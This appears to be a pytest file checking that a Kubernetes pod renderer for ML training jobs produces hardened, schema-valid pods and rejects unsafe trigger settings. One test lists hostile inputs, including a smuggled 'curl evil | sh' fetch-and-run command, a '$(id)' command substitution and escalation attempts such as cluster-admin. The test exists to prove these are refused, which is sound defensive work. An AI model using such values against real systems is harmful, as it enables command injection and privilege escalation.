"""The training pod, as `trainyard render` prints it: valid, hardened, and derived from YAML only."""

from __future__ import annotations

import json

import kubernetes_validate
import pytest
import yaml

from trainyard.cli.main import main as cli
from trainyard.cli.render import render_pod
from trainyard.config.loading import available_environments, load_environment, load_pipeline
from trainyard.validate.trigger_conf import ConfRejected

KUBERNETES_ENVS = ("dev", "prod")


def _pipeline(config_dirs, env: str):
    pipelines, environments = config_dirs
    return load_pipeline(
        pipelines / "tweet-sentiment.yaml",
        load_environment(env, environments),
        available_environments(environments),
    )


def _edit_pipeline(pipelines, old: str, new: str) -> None:
    path = pipelines / "tweet-sentiment.yaml"
    text = path.read_text()
    assert old in text, f"fixture text not found: {old!r}"
    path.write_text(text.replace(old, new, 1))


def _container(pod: dict) -> dict:
    (container,) = pod["spec"]["containers"]
    return container


def _run_spec(pod: dict) -> dict:
    args = _container(pod)["args"]
    return json.loads(args[args.index("--spec") + 1])


@pytest.mark.parametrize("env", KUBERNETES_ENVS)
def test_manifest_is_schema_valid_in_strict_mode(config_dirs, env):
    pod = render_pod(_pipeline(config_dirs, env))
    kubernetes_validate.validate(pod, kubernetes_validate.latest_version(), strict=True)


@pytest.mark.parametrize("env", KUBERNETES_ENVS)
def test_pod_requests_gpus_under_the_priority_class_with_hardening(config_dirs, env):
    pipeline = _pipeline(config_dirs, env)
    k8s = pipeline.environment.kubernetes
    pod = render_pod(pipeline, run_id="scheduled__2026-11-26T03:00:00+00:00")
    spec, container = pod["spec"], _container(pod)

    assert pod["metadata"]["namespace"] == k8s.namespace
    assert spec["priorityClassName"] == k8s.priority_class
    assert spec["serviceAccountName"] == "trainyard-nlp", "the team's identity, not a shared one"
    assert spec["automountServiceAccountToken"] is False
    assert container["image"] == "ghcr.io/trainyard/trainer:0.2.0"
    resources = container["resources"]
    assert (
        resources["requests"] == resources["limits"] == {"cpu": "4", "memory": "16Gi", "nvidia.com/gpu": "1"}
    )
    assert spec["nodeSelector"] == {"nvidia.com/gpu.product": "NVIDIA-A100-SXM4-80GB"}
    assert spec["tolerations"] == [{"key": "nvidia.com/gpu", "operator": "Exists", "effect": "NoSchedule"}]
    assert spec["restartPolicy"] == "Never"

    assert spec["securityContext"] == {
        "runAsNonRoot": True,
        "runAsUser": 1000,
        "runAsGroup": 1000,
        "fsGroup": 1000,
        "seccompProfile": {"type": "RuntimeDefault"},
    }
    assert container["securityContext"] == {
        "allowPrivilegeEscalation": False,
        "capabilities": {"drop": ["ALL"]},
        "readOnlyRootFilesystem": True,
        "runAsNonRoot": True,
    }
    shm = next(v for v in spec["volumes"] if v["name"] == "dshm")
    assert shm["emptyDir"] == {"medium": "Memory", "sizeLimit": "2Gi"}
    mounts = {m["mountPath"] for m in container["volumeMounts"]}
    assert {"/dev/shm", "/tmp", "/cache", "/scratch"} <= mounts, "writable places on a read-only root"

    assert spec["terminationGracePeriodSeconds"] == 300, "time to checkpoint on SIGTERM"
    timeout_minutes = pipeline.environment.airflow.execution_timeout_minutes
    assert spec["activeDeadlineSeconds"] == timeout_minutes * 60

    labels = pod["metadata"]["labels"]
    assert labels["trainyard.io/pipeline"] == "tweet-sentiment"
    assert labels["trainyard.io/team"] == "nlp"
    assert labels["trainyard.io/environment"] == env
    assert labels["trainyard.io/dag-run"] == "scheduled__2026-11-26T03_00_00_00_00"
    # Kueue: the team's LocalQueue and the environment's WorkloadPriorityClass (prod outranks dev).
    assert labels["kueue.x-k8s.io/queue-name"] == "nlp"
    assert labels["kueue.x-k8s.io/priority-class"] == k8s.priority_class

    assert container["command"] == ["python"]
    assert container["args"][:3] == ["-m", "trainer", "--spec"]
    run_spec = _run_spec(pod)
    assert run_spec["identity"]["environment"] == env
    assert run_spec["checkpoint_dir"].startswith(f"s3://trainyard-{env}-checkpoints/tweet-sentiment/")


def test_secrets_are_references_never_values(config_dirs):
    pod = render_pod(_pipeline(config_dirs, "prod"))
    container = _container(pod)
    # The team's own Secret carries its S3 keys and its MLflow user (MLFLOW_TRACKING_USERNAME and
    # _PASSWORD of trainyard-prod-nlp-trainer): no other Secret reaches the pod.
    assert container["envFrom"] == [{"secretRef": {"name": "trainyard-nlp-credentials"}}], "the team's own"
    references = [e for e in container["env"] if "valueFrom" in e]
    assert references == [], "no kubernetes.secrets.env in the shipped YAML"
    literals = {e["name"]: e["value"] for e in container["env"] if "valueFrom" not in e}
    assert literals == {
        "PYTHONUNBUFFERED": "1",
        "TOKENIZERS_PARALLELISM": "false",
        "HF_HUB_DISABLE_PROGRESS_BARS": "1",
        "HF_DATASETS_DISABLE_PROGRESS_BARS": "1",
        "MLFLOW_DISABLE_TELEMETRY": "true",
        "TRAINYARD_ENV": "prod",
        "HF_HOME": "/cache/huggingface",
        "TRAINYARD_SCRATCH": "/scratch",
        "NCCL_DEBUG": "WARN",  # kubernetes.env's default: a failing collective says why
    }, "only these settings are literal values: no credential, no AWS_* key"
    assert len(container["env"]) == len(references) + len(literals), "each name once"


def test_secret_env_entries_become_secret_key_refs(config_dirs):
    """kubernetes.secrets.env (unused by the shipped YAML) still reaches the pod as references."""
    _, environments = config_dirs
    path = environments / "prod.yaml"
    data = yaml.safe_load(path.read_text())
    data["kubernetes"]["secrets"] = {"env": {"HF_TOKEN": {"secret": "trainyard-hf", "key": "token"}}}
    path.write_text(yaml.safe_dump(data, sort_keys=False))
    container = _container(render_pod(_pipeline(config_dirs, "prod")))
    assert container["envFrom"] == [{"secretRef": {"name": "trainyard-nlp-credentials"}}]
    assert [e for e in container["env"] if "valueFrom" in e] == [
        {"name": "HF_TOKEN", "valueFrom": {"secretKeyRef": {"name": "trainyard-hf", "key": "token"}}}
    ]


def test_dev_and_prod_differ_only_where_their_yaml_differs(config_dirs):
    dev = render_pod(_pipeline(config_dirs, "dev"))
    prod = render_pod(_pipeline(config_dirs, "prod"))
    for pod in (dev, prod):
        del pod["metadata"]["name"]  # random suffix
    differences = set()

    def walk(a, b, path=""):
        if isinstance(a, dict) and isinstance(b, dict):
            for key in a.keys() | b.keys():
                walk(a.get(key), b.get(key), f"{path}.{key}")
        elif isinstance(a, list) and isinstance(b, list) and len(a) == len(b):
            for i, (x, y) in enumerate(zip(a, b, strict=True)):
                walk(x, y, f"{path}[{i}]")
        elif a != b:
            differences.add(path)

    walk(dev, prod)
    assert differences == {
        ".metadata.namespace",
        ".metadata.labels.trainyard.io/environment",
        ".metadata.labels.kueue.x-k8s.io/priority-class",
        ".spec.priorityClassName",
        ".spec.activeDeadlineSeconds",
        ".spec.containers[0].args[3]",  # the run spec: environment, buckets, MLflow, epochs
        ".spec.containers[0].env[5].value",  # TRAINYARD_ENV
    }
    dev_spec, prod_spec = _run_spec(dev), _run_spec(prod)
    assert dev_spec["hyperparameters"]["epochs"] == 1 and prod_spec["hyperparameters"]["epochs"] == 3


def test_more_gpus_run_the_launcher_with_one_rank_per_gpu(config_dirs):
    pipelines, _ = config_dirs
    path = pipelines / "tweet-sentiment.yaml"
    path.write_text(path.read_text().replace("  gpus: 1", "  gpus: 4"))
    container = _container(render_pod(_pipeline(config_dirs, "prod")))
    assert container["command"] == ["python"]
    assert container["args"][:6] == [
        "-m",
        "trainer.launcher",
        "--nproc-per-node=4",
        "--shutdown-timeout=285",  # terminationGracePeriodSeconds 300, less a margin
        "--",
        "--spec",
    ]
    assert _run_spec(render_pod(_pipeline(config_dirs, "prod")))["identity"]["pipeline"] == "tweet-sentiment"
    assert container["resources"]["limits"]["nvidia.com/gpu"] == "4"


def _resources(container: dict, pod: dict) -> tuple[dict, str]:
    resources = container["resources"]
    assert resources["requests"] == resources["limits"], "Guaranteed QoS: requests = limits"
    (shm,) = [v for v in pod["spec"]["volumes"] if v["name"] == "dshm"]
    return resources["limits"], shm["emptyDir"]["sizeLimit"]


@pytest.mark.parametrize(
    ("written", "limits", "shm"),
    [
        ("  gpus: 2\n", {"cpu": "8", "memory": "32Gi", "nvidia.com/gpu": "2"}, "4Gi"),
        # Written values win; an unwritten shm_size stays within a quarter of a written memory.
        (
            '  gpus: 2\n  cpu: "6"\n  memory: 12Gi\n',
            {"cpu": "6", "memory": "12Gi", "nvidia.com/gpu": "2"},
            "3Gi",
        ),
        ("  gpus: 0\n", {"cpu": "4", "memory": "16Gi"}, "2Gi"),  # a CPU-only pod: what one rank gets
    ],
)
def test_pod_cpu_memory_and_shm_follow_gpus_unless_written(config_dirs, written, limits, shm):
    pipelines, _ = config_dirs
    _edit_pipeline(pipelines, "  gpus: 1\n", written)
    pod = render_pod(_pipeline(config_dirs, "dev"))
    assert _resources(_container(pod), pod) == (limits, shm)


def test_environment_env_reaches_the_pod_and_never_replaces_the_trainers_own(config_dirs):
    _, environments = config_dirs
    path = environments / "prod.yaml"
    data = yaml.safe_load(path.read_text())
    data["kubernetes"]["env"] = {
        "NCCL_NVLS_ENABLE": 0,
        "NCCL_DEBUG": "INFO",
        "CUDA_DEVICE_MAX_CONNECTIONS": 1,
    }
    path.write_text(yaml.safe_dump(data, sort_keys=False))
    pipeline = _pipeline(config_dirs, "prod")
    env = _container(render_pod(pipeline))["env"]
    assert [e["name"] for e in env][:8] == [
        "PYTHONUNBUFFERED",
        "TOKENIZERS_PARALLELISM",
        "HF_HUB_DISABLE_PROGRESS_BARS",
        "HF_DATASETS_DISABLE_PROGRESS_BARS",
        "MLFLOW_DISABLE_TELEMETRY",
        "TRAINYARD_ENV",
        "HF_HOME",
        "TRAINYARD_SCRATCH",
    ], "the trainer's own come first, unchanged"
    assert env[8:] == [
        {"name": "NCCL_DEBUG", "value": "INFO"},
        {"name": "NCCL_NVLS_ENABLE", "value": "0"},
        {"name": "CUDA_DEVICE_MAX_CONNECTIONS", "value": "1"},
    ]

    # The schema refuses the trainer's names; should the trainer ever set an allow-listed one itself,
    # its value still wins. Validation is bypassed (model_copy) to build that environment.
    from dataclasses import replace

    from trainyard.train.pod import pod_kwargs

    k8s = pipeline.environment.kubernetes.model_copy(update={"env": {"TRAINYARD_ENV": "x", "HF_HOME": "/x"}})
    forged = replace(pipeline, environment=pipeline.environment.model_copy(update={"kubernetes": k8s}))
    values = {v.name: v.value for v in pod_kwargs(forged)["env_vars"]}
    assert (values["TRAINYARD_ENV"], values["HF_HOME"]) == ("prod", "/cache/huggingface")
    assert len(values) == len(pod_kwargs(forged)["env_vars"]), "each name once"


def test_conf_overrides_reach_the_pod_only_as_validated_hyperparameters(config_dirs):
    pod = render_pod(_pipeline(config_dirs, "prod"), {"learning_rate": 1e-4, "epochs": 2})
    hp = _run_spec(pod)["hyperparameters"]
    assert (hp["learning_rate"], hp["epochs"]) == (1e-4, 2)


@pytest.mark.parametrize(
    "conf",
    [
        {"image": "attacker/image:1"},
        {"namespace": "kube-system"},
        {"priority_class": "system-node-critical"},
        {"priorityClassName": "system-node-critical"},
        {"service_account": "cluster-admin"},
        {"command": ["sh", "-c", "id"]},
        {"cmds": ["sh"]},
        {"resources": {"gpus": 64}},
        {"gpus": 64},
        {"memory": "2Ti"},
        {"epochs": "1; curl evil | sh"},
        {"learning_rate": "$(id)"},
        {"batch_size": 100000},
        {"epochs": -1},
    ],
)
def test_every_escalation_through_conf_is_refused(config_dirs, conf):
    with pytest.raises(ConfRejected, match="Trigger conf rejected"):
        render_pod(_pipeline(config_dirs, "prod"), conf)


def test_render_cli_prints_one_pod_document_and_refuses_bad_conf(config_dirs, capsys):
    assert cli(["render", "tweet-sentiment", "--env", "dev", "--conf", '{"epochs": 2}']) == 0
    documents = list(yaml.safe_load_all(capsys.readouterr().out))
    assert len(documents) == 1 and documents[0]["kind"] == "Pod"

    assert cli(["render", "tweet-sentiment", "--env", "dev", "--conf", '{"gpus": 8}']) == 2
    assert "'gpus' is not a known setting" in capsys.readouterr().err
    assert cli(["render", "tweet-sentiment", "--env", "dev", "--conf", "{not json"]) == 2
    assert "--conf is not valid JSON" in capsys.readouterr().err
    assert cli(["render", "tweet-sentiment", "--env", "local"]) == 2
    assert "runs the trainer as a local process" in capsys.readouterr().err


def test_jinja_in_yaml_values_is_never_rendered_into_the_pod(config_dirs):
    """Template fields would let a pipeline author read conf, Variables or Connections into the pod."""
    from types import SimpleNamespace

    from trainyard.dag import build_dag

    pipelines, _ = config_dirs
    path = pipelines / "tweet-sentiment.yaml"
    owner = "{{ dag_run.conf }} {{ var.value.secret }}"
    path.write_text(path.read_text().replace("owner: nlp-team@example.com", f'owner: "{owner}"'))
    dag = build_dag(_pipeline(config_dirs, "prod"))
    task = dag.get_task("train")
    context = {"dag_run": SimpleNamespace(conf={"evil": 1}, run_id="r"), "var": {"value": {}}}
    task.render_template_fields(context, jinja_env=dag.get_template_env())
    assert task.annotations == {"trainyard.io/owner": owner}
    assert task.template_fields == ()


def _context(run_id: str, start, store):
    from types import SimpleNamespace

    ti = SimpleNamespace(
        dag_id="tweet-sentiment", task_id="train", map_index=-1, try_number=1, start_date=start
    )
    return {
        "ti": ti,
        "run_id": run_id,
        "dag": SimpleNamespace(dag_id="tweet-sentiment"),
        "dag_run": SimpleNamespace(run_id=run_id),
        "task_state_store": store,
    }


def test_waiting_for_quota_extends_the_task_but_never_the_training_budget(config_dirs, tmp_path, monkeypatch):
    """dev: 240 min of training, up to 720 min of queueing. A pod relaunched after a preemption
    gets only what is left of the 240 min, however long the run waited or may still wait."""
    from datetime import UTC, datetime, timedelta

    from tests.support.k8s_emulator import KubernetesEmulator
    from tests.support.services import kubernetes_connection
    from trainyard.handoff import Approval
    from trainyard.train.pod_operator import KubernetesTrainOperator
    from trainyard.train.queue_wait import QueueWaitRecord
    from trainyard.train.run_state import MemoryStore, RunState

    with KubernetesEmulator() as emulator:  # the provider reads the connection's kubeconfig
        kubeconfig = emulator.write_kubeconfig(tmp_path / "kubeconfig")
    monkeypatch.setenv("AIRFLOW_CONN_KUBERNETES_DEFAULT", kubernetes_connection(kubeconfig))
    pipeline = _pipeline(config_dirs, "dev")
    operator = KubernetesTrainOperator(
        task_id="train", pipeline=pipeline, execution_timeout=timedelta(minutes=240)
    )
    assert operator.execution_timeout == timedelta(minutes=240 + 720), "the task may also wait for quota"
    start = datetime.now(UTC) - timedelta(minutes=100)
    store = MemoryStore()
    context = _context("manual__budget", start, store)
    operator.prepare_run(context, Approval(fingerprint="sha256:" + "f" * 64, hyperparameters={}))
    first = operator.build_pod_request_obj(context)
    assert first.spec.active_deadline_seconds == pytest.approx((240 - 100) * 60, abs=5)

    # The first pod queued 30 min and trained 70 before Kueue preempted it: 170 of 240 min are left.
    waited = QueueWaitRecord(
        pod="train-a",
        local_queue="nlp",
        cluster_queue="trainyard-dev-nlp",
        started_at=start,
        seconds=30 * 60,
        admitted=True,
    )
    RunState.load(store).with_wait(waited).save(store)
    relaunched = operator.build_pod_request_obj(context)
    assert relaunched.spec.active_deadline_seconds == pytest.approx((240 - 70) * 60, abs=5)
